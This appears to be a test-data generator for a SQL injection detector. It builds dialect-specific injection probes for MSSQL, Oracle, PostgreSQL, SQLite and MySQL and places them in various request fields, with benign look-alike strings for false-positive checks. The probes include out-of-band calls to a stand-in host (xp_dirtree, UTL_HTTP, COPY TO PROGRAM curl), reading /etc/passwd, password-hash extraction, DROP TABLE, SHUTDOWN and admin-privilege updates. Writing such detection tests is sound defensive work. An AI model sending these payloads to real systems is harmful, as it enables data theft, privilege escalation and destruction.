// SQL injection across database dialects, as blind, error-based and time-based probes: what a
// scanner sends once it has guessed the back end (MSSQL WAITFOR/CONVERT errors, Oracle
// DBMS_PIPE/UTL_INADDR/CTXSYS/XMLType, PostgreSQL pg_sleep and casts, SQLite RANDOMBLOB,
// MySQL EXTRACTVALUE/UPDATEXML/ELT/SLEEP/EXP), stacked queries, glued numbers (1DUNION), in a
// query, form, JSON string or number, cookie and headers. sqli-tamper.ts covers the rewrites
// scanners apply on top; this file covers the dialects' own probe vocabulary.
import fc from "fast-check";
import type { Req } from "../engine.js";
import { rng, type R } from "./rng.js";

const pickR = <T>(r: R, xs: readonly T[]): T => xs[r(xs.length)];
const num = (r: R) => 100 + r(9900);
const word = (r: R, n = 4) => Array.from({ length: n }, () => String.fromCharCode(0x61 + r(26))).join("");
const secs = (r: R) => 1 + r(9);
const hexOf = (s: string) => "0x" + Buffer.from(s).toString("hex");
/** A marker scanners wrap leaked data in, as a hex literal or CHR()/CHAR() chain. */
const mark = (r: R) => hexOf("q" + word(r, 3) + "q");
const chrs = (r: R, f: string, join: string) => word(r, 3).split("").map((c) => `${f}(${c.charCodeAt(0)})`).join(join);

type Probe = (r: R) => string;

const MSSQL: Probe[] = [
  (r) => `';EXEC('SEL'+'ECT ${num(r)}')--`,
  (r) => ` AND ${num(r)}=DB_NAME(${r(9)})`,
  (r) => ` AND 1=(SELECT ${num(r)}/0)--`,
  (r) => `;IF(ASCII(SUBSTRING(DB_NAME(),${1 + r(9)},1))>${40 + r(60)}) WAITFOR DELAY '0:0:${secs(r)}'--`,
  (r) => `;WAITFOR DELAY '0:0:${secs(r)}'--`,
  (r) => `);WAITFOR DELAY '00:00:0${secs(r)}'--`,
  (r) => { const n = num(r); return ` AND ${n}=CONVERT(INT,(SELECT ${chrs(r, "CHAR", "+")}+(SELECT TOP 1 name FROM sysobjects)))`; },
  (r) => ` AND 1=CONVERT(int,${pickR(r, ["@@version", "db_name()", "user_name()", "@@servername", "SYSTEM_USER"])})--`,
  (r) => ` AND ${num(r)}=CAST((SELECT TOP 1 table_name FROM information_schema.tables) AS int)`,
  (r) => ` IF(${num(r)}=${num(r)}) WAITFOR DELAY '0:0:${secs(r)}'--`,
  (r) => `;IF (SELECT COUNT(*) FROM sysusers AS sys1)>0 WAITFOR DELAY '0:0:${secs(r)}'--`,
  (r) => `;EXEC master..xp_dirtree '\\\\${word(r, 6)}.oast.example\\a'--`,
  (r) => `;DECLARE @${word(r, 1)} VARCHAR(8000);SET @${word(r, 1)}=${hexOf("select 1")};EXEC(@${word(r, 1)})--`,
  (r) => `'+(SELECT TOP 1 ${pickR(r, ["name", "password_hash"])} FROM ${pickR(r, ["sys.sql_logins", "master..sysdatabases"])})+'`,
  (r) => ` AND 1=(SELECT ${num(r)} WHERE 1=1 AND 1 IN (SELECT ${pickR(r, ["@@version", "DB_NAME()"])}))`,
];
const ORACLE: Probe[] = [
  (r) => `'||DBMS_PIPE.RECEIVE_MESSAGE(CHR(${65 + r(26)}),${secs(r)})||'`,
  (r) => ` AND ${num(r)}=(SELECT ${num(r)} FROM DUAL WHERE ${num(r)}=${num(r)})`,
  (r) => ` AND (SELECT COUNT(*) FROM ALL_USERS T1,ALL_USERS T2,ALL_USERS T3)>0`,
  (r) => ` AND ${num(r)}=DBMS_UTILITY.SQLID_TO_SQLHASH((SELECT banner FROM v$version WHERE ROWNUM=1))`,
  (r) => { const n = num(r); return ` AND ${n}=DBMS_PIPE.RECEIVE_MESSAGE(${chrs(r, "CHR", "||")},${secs(r)})`; },
  (r) => ` AND ${num(r)}=UTL_INADDR.GET_HOST_ADDRESS((SELECT ${pickR(r, ["user", "banner", "global_name"])} FROM ${pickR(r, ["dual", "v$version", "global_name"])}${r(2) ? " WHERE ROWNUM=1" : ""}))`,
  (r) => ` AND ${num(r)}=CTXSYS.DRITHSX.SN(${num(r)},(SELECT ${chrs(r, "CHR", "||")} FROM DUAL))`,
  (r) => ` AND ${num(r)}=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||(SELECT user FROM DUAL)||CHR(62))) FROM DUAL)`,
  (r) => `'||(SELECT ${pickR(r, ["banner", "user", "ora_database_name"])} FROM ${pickR(r, ["v$version", "dual"])} WHERE ROWNUM=1)||'`,
  (r) => ` AND ${num(r)}=UTL_HTTP.REQUEST('http://${word(r, 6)}.oast.example/'||(SELECT user FROM dual))`,
  (r) => ` AND (SELECT CASE WHEN (${num(r)}=${num(r)}) THEN ${pickR(r, ["TO_CHAR(1/0)", "DBMS_PIPE.RECEIVE_MESSAGE('a',5)"])} ELSE NULL END FROM DUAL) IS NULL`,
  (r) => `${r(10)}DUNION SELECT ${pickR(r, ["NULL", "banner", "user"])}${r(2) ? ",NULL" : ""} FROM ${pickR(r, ["DUAL", "v$version", "all_users"])}--`,
  (r) => ` AND ${num(r)}=ORDSYS.ORD_DICOM.GETMAPPINGXPATH((SELECT user FROM dual),${num(r)},${num(r)})`,
];
const POSTGRES: Probe[] = [
  (r) => `;SELECT CASE WHEN (${num(r)}=${num(r)}) THEN PG_SLEEP(${secs(r)}) ELSE PG_SLEEP(0) END--`,
  (r) => `'||PG_SLEEP(${secs(r)})--`,
  (r) => ` AND ${num(r)}=CAST(CHR(113)||(SELECT ${pickR(r, ["current_user", "version()"])})||CHR(113) AS NUMERIC)`,
  (r) => ` AND (SELECT ${num(r)} FROM PG_SLEEP(${secs(r)})) IS NULL`,
  (r) => ` AND ${num(r)}=(SELECT QUERY_TO_XML('SELECT 1',true,true,''))::text::int`,
  (r) => `;SELECT $$${word(r)}$$||CURRENT_USER--`,
  (r) => `;SELECT PG_SLEEP(${secs(r)})--`,
  (r) => { const n = num(r); return ` AND ${n}=(SELECT ${n} FROM PG_SLEEP(${secs(r)}))`; },
  (r) => ` AND ${num(r)}=CAST((SELECT ${pickR(r, ["version()", "current_user", "current_database()"])}) AS ${pickR(r, ["int", "INTEGER", "NUMERIC"])})`,
  (r) => ` AND ${num(r)}=(SELECT ${pickR(r, ["version()", "current_user"])})::int`,
  (r) => `'||(SELECT ${pickR(r, ["version()", "current_database()", "usename FROM pg_user"])})::int||'`,
  (r) => ` AND ${num(r)}=(SELECT COUNT(*) FROM GENERATE_SERIES(1,${secs(r)}000000))`,
  (r) => `;COPY (SELECT '') TO PROGRAM '${pickR(r, ["nslookup", "curl"])} ${word(r, 6)}.oast.example'--`,
  (r) => ` AND 1=(SELECT CASE WHEN (${num(r)}=${num(r)}) THEN (SELECT 1 FROM PG_SLEEP(${secs(r)})) ELSE 1 END)`,
  (r) => `;CREATE TABLE ${word(r)}(t TEXT);COPY ${word(r)} FROM '/etc/passwd'--`,
];
const SQLITE: Probe[] = [
  (r) => ` AND ${num(r)}=(SELECT CASE WHEN (${num(r)}=${num(r)}) THEN RANDOMBLOB(${secs(r)}00000000) ELSE 1 END)`,
  (r) => `' UNION SELECT GROUP_CONCAT(tbl_name),NULL FROM sqlite_master--`,
  (r) => `'||(SELECT SQLITE_VERSION())||'`,
  (r) => { const n = num(r); return ` AND ${n}=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(${secs(r)}00000000/2))))`; },
  (r) => ` AND ${num(r)}=RANDOMBLOB(${secs(r)}000000000)`,
  (r) => ` AND SQLITE_VERSION()=SQLITE_VERSION()`,
  (r) => ` UNION SELECT ${pickR(r, ["sql", "name", "tbl_name"])}${r(2) ? ",NULL" : ""} FROM sqlite_master--`,
  (r) => ` AND ${num(r)}=(SELECT ${num(r)} FROM sqlite_master WHERE ${num(r)}=${num(r)} AND ${num(r)}=LIKE('A',UPPER(HEX(RANDOMBLOB(500000000))))) `,
  (r) => `' AND SUBSTR((SELECT name FROM sqlite_master LIMIT 1),1,1)='${word(r, 1)}`,
];
const MYSQL: Probe[] = [
  (r) => `'-SLEEP(${secs(r)})-'`,
  (r) => `'+SLEEP(${secs(r)})+'`,
  (r) => `-IF(${num(r)}=${num(r)},SLEEP(${secs(r)}),0)`,
  (r) => `'|| SLEEP(${secs(r)}) #`,
  (r) => ` AND ROW(${num(r)},${num(r)})>(SELECT COUNT(*),CONCAT(${mark(r)},(SELECT version()),FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)`,
  (r) => ` AND 2*(IF((SELECT * FROM (SELECT CONCAT(${mark(r)},(SELECT (ELT(${num(r)}=${num(r)},1))),${mark(r)}))s), 8446744073709551610, 8446744073709551610))`,
  (r) => ` AND 0x${Buffer.from(word(r, 2)).toString("hex")}=0x${Buffer.from(word(r, 2)).toString("hex")}`,
  (r) => ` AND EXTRACTVALUE(${num(r)},CONCAT(0x5c,${mark(r)},(SELECT ${pickR(r, ["version()", "user()", "database()", "@@hostname"])}),${mark(r)}))`,
  (r) => ` AND UPDATEXML(${num(r)},CONCAT(0x7e,(SELECT ${pickR(r, ["version()", "user()", "database()"])})),${num(r)})`,
  (r) => { const n = num(r); return ` AND ELT(${n}=${n},SLEEP(${secs(r)}))`; },
  (r) => ` OR SLEEP(${secs(r)})#`,
  (r) => ` AND (SELECT ${num(r)} FROM (SELECT(SLEEP(${secs(r)})))${word(r)})`,
  (r) => ` AND ${num(r)}=IF(${num(r)}=${num(r)},SLEEP(${secs(r)}),0)`,
  () => `'XOR(IF(NOW()=SYSDATE(),SLEEP(5),0))XOR'Z`,
  (r) => ` AND EXP(~(SELECT * FROM (SELECT ${pickR(r, ["user()", "version()"])})${word(r, 1)}))`,
  (r) => ` AND GTID_SUBSET(CONCAT(${mark(r)},(SELECT ${pickR(r, ["user()", "version()"])}),${mark(r)}),${num(r)})`,
  (r) => ` AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(${mark(r)},(SELECT database()),${mark(r)})) USING utf8)))`,
  (r) => ` PROCEDURE ANALYSE(EXTRACTVALUE(${num(r)},CONCAT(0x3a,(SELECT version()))),1)`,
  (r) => ` RLIKE SLEEP(${secs(r)})`,
  (r) => ` AND ${num(r)}=BENCHMARK(${secs(r)}000000,MD5(${mark(r)}))`,
];
const GENERIC: Probe[] = [
  (r) => { const n = num(r); return ` AND ${n}=${n}`; },
  (r) => { const n = num(r); return ` OR ${n}=${n}`; },
  (r) => { const n = num(r); return ` || ${n}=${n}`; },
  (r) => { const n = num(r); return ` AND ${n}=${n + 1 + r(9)}`; },
  (r) => `;DROP TABLE ${word(r, 6)}--`,
  (r) => `;SHUTDOWN--`.slice(0, r(2) ? 11 : 9),
  (r) => `;UPDATE users SET ${pickR(r, ["role", "is_admin"])}=1 WHERE ${pickR(r, ["id", "name"])}=${num(r)}--`,
];
const DIALECTS: Record<string, Probe[]> = { mssql: MSSQL, oracle: ORACLE, postgres: POSTGRES, sqlite: SQLITE, mysql: MYSQL, generic: GENERIC };
export const DIALECT_NAMES = Object.keys(DIALECTS);

/** How the probe leaves the application's value: numeric (with the value, or -1), quoted, bracketed. */
const OPENS: [string, string][] = [["1", ""], ["-1", ""], ["", ""], ["'", ""], ["1'", "-- -"], ["1)", "-- -"], ["')", "-- -"], ["1\"", "#"], ["'))", "-- -"]];

type Place = "query" | "form" | "json-string" | "json-number" | "cookie" | "user-agent" | "xff" | "referer" | "custom-header";
const PLACES: Place[] = ["query", "form", "json-string", "json-number", "cookie", "user-agent", "xff", "referer", "custom-header"];

/** Query/form escaping; `plus`: blanks written `+`, as HTML forms and many tools do. */
function urlEncode(s: string, plus: boolean): string {
  return s.replace(/[^A-Za-z0-9_.~()*!,'-]/g, (c) => (plus && c === " " ? "+" : Buffer.from(c).toString("hex").replace(/../g, (h) => "%" + h.toUpperCase())));
}

function request(place: Place, value: string, plus: boolean): Req {
  const host: [string, string] = ["host", "shop.local"];
  const oneLine = value.replace(/[\r\n]/g, " ");
  switch (place) {
    case "query": return { path: `/items?id=${urlEncode(value, plus)}&sort=asc`, headers: [host] };
    case "form": return { method: "POST", path: "/search", headers: [host, ["content-type", "application/x-www-form-urlencoded"]], body: `q=${urlEncode(value, plus)}&page=1` };
    case "json-string": return { method: "POST", path: "/api/orders", headers: [host, ["content-type", "application/json"]], body: JSON.stringify({ order: { id: value, qty: 1 } }) };
    // a number's place in a JSON body, the payload written raw after it: the document no longer parses
    case "json-number": return { method: "PUT", path: "/api/orders/7", headers: [host, ["content-type", "application/json"]], body: `{"qty": 2, "id": ${value}, "note": "x"}` };
    case "cookie": return { path: "/account", headers: [host, ["cookie", `session=9f8e7d; uid=${urlEncode(value, plus).replace(/%20/g, "+")}; theme=dark`]] };
    case "user-agent": return { path: "/", headers: [host, ["user-agent", `Mozilla/5.0${oneLine}`]] };
    case "xff": return { path: "/", headers: [host, ["x-forwarded-for", `10.0.0.${value.startsWith("'") ? "1" : ""}${oneLine}`]] };
    case "referer": return { path: "/", headers: [host, ["referer", `https://shop.local/items?id=${urlEncode(value, plus)}`]] };
    case "custom-header": return { path: "/api/me", headers: [host, ["x-user-id", oneLine]] };
  }
}

export interface DialectSqli { value: string; dialect: string; place: Place; req: Req; pos: string }

export const dialectSqli: fc.Arbitrary<DialectSqli> = fc
  .record({ seed: fc.nat(), d: fc.nat(DIALECT_NAMES.length - 1), k: fc.nat(20), o: fc.nat(OPENS.length - 1), place: fc.constantFrom(...PLACES), plus: fc.boolean(), lower: fc.nat(3) })
  .map(({ seed, d, k, o, place, plus, lower }) => {
    const r = rng(seed);
    const dialect = DIALECT_NAMES[d];
    const list = DIALECTS[dialect];
    let probe = list[k % list.length](r);
    let [open, close] = OPENS[o];
    // a probe that opens with a quote or a glued number brings its own boundary
    if (/^('|\d?DUNION)/.test(probe)) { open = ""; close = ""; }
    if (/(--|#|')$/.test(probe) || /^'|Z$/.test(probe)) close = "";
    // a quoted boundary left open needs its close: `1' AND ... -- -`
    if (open.includes("'") && !close && !probe.endsWith("--") && !probe.endsWith("#")) close = probe.startsWith(";") ? "--" : " AND '1'='1";
    // (a JSON number's place is a number: a quote there is not the application's)
    if (place === "json-number" && /['"]/.test(open)) open = "1";
    let value = open + probe + close;
    if (lower === 0) value = value.toLowerCase().replace(/0x[0-9a-f]+/g, (x) => x);
    return { value, dialect, place, req: request(place, value, plus), pos: `${dialect}/${place}` };
  });

/** Prose and data with the dialects' words: sleep, wait for, convert, cast, delay, pipes, randomness. */
export const dialectBenign: fc.Arbitrary<string> = fc.constantFrom(
  "I need 8 hours of sleep", "Please wait for delay notifications", "convert int to string in C#", "cast iron pan, 12 inch", "pg_sleep is a PostgreSQL function",
  "Order 12 - delayed, waiting for stock", "utl_inaddr docs page", "update the XML value", "extract value from the form", "select your dialect: MySQL, Oracle or SQLite",
  "waitfor it...", "version 2.1 (beta)", "dbms pipe cleaner set", "random blob of text", "user: admin, role: viewer",
  "1 || 2 kids", "Smith & Sons || Hardware", "select count from the list", "2024-01-01 to 2024-12-31", "The DUAL table exists in Oracle", "1D union jack flag",
);
